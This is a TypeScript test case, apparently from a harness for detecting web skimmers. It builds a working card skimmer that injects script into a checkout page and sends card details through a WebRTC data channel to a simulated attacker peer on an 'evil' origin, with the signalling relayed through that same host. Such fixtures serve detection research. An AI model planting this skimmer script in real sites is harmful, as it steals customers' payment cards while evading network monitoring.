import { holds, js, skimmer } from '../behaviour.ts';
import { withCard } from '../snippets.ts';

export default skimmer({
  id: 'webrtc-data-channel',
  why: "A data channel to the attacker's peer, encrypted by the browser itself; the session descriptions are all that is seen of it (seen in the wild since 2024).",
  covers: ['sending: WebRTC', 'hard: unusual channel', 'cipher: any'],
  base: 'direct',
  needs: 'peer',
  lingers: 800,
  install: (site) => {
    const offers: string[] = [];
    let answer = '';
    site.serve('evil/turn/offer', ({ body }) => {
      if (body.length > 0) offers.push(body.toString());
      return { status: 204 };
    });
    site.serve('evil/turn/next', () => offers.shift() ?? '');
    site.serve('evil/turn/reply', ({ body }) => {
      if (body.length > 0) answer = body.toString();
      return { status: 204 };
    });
    site.serve('evil/turn/answer', () => answer);
    // The attacker's end, opened by the harness beside the customer: what it hears is told to the harness.
    site.serve(
      'evil/__peer',
      js`<script>(async function () {
  for (;;) {
    var sdp = await (await fetch('/turn/next')).text();
    if (!sdp) { await new Promise(function (r) { setTimeout(r, 50); }); continue; }
    var pc = window.pc = new RTCPeerConnection();
    pc.ondatachannel = function (e) { e.channel.onmessage = function (m) { fetch('/__told', { method: 'POST', body: m.data }); }; };
    await pc.setRemoteDescription({ type: 'offer', sdp: sdp });
    await pc.setLocalDescription(await pc.createAnswer());
    await new Promise(function (r) { pc.onicegatheringstatechange = function () { if (pc.iceGatheringState === 'complete') r(); }; setTimeout(r, 600); });
    await fetch('/turn/reply', { method: 'POST', body: pc.localDescription.sdp });
  }
})();</script>`,
    );
    site.inline(
      withCard(js`
  var pc = new RTCPeerConnection(), channel = pc.createDataChannel('d');
  pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }).then(function () {
    return new Promise(function (r) { pc.onicegatheringstatechange = function () { if (pc.iceGatheringState === 'complete') r(); }; setTimeout(r, 600); });
  }).then(function () {
    return fetch('${site.origins.evil}/turn/offer', { method: 'POST', mode: 'no-cors', body: pc.localDescription.sdp });
  }).then(function poll() {
    return fetch('${site.origins.evil}/turn/answer').then(function (r) { return r.text(); }).then(function (sdp) {
      if (sdp) return pc.setRemoteDescription({ type: 'answer', sdp: sdp });
      return new Promise(function (r) { setTimeout(r, 100); }).then(poll);
    });
  });
  document.getElementById('pay').addEventListener('mousedown', function () { if (channel.readyState === 'open') channel.send(card()); });
  document.getElementById('cc-name').addEventListener('change', function () { if (channel.readyState === 'open') channel.send(card()); });`),
    );
  },
  proof: holds((arrived) => arrived.told),
});
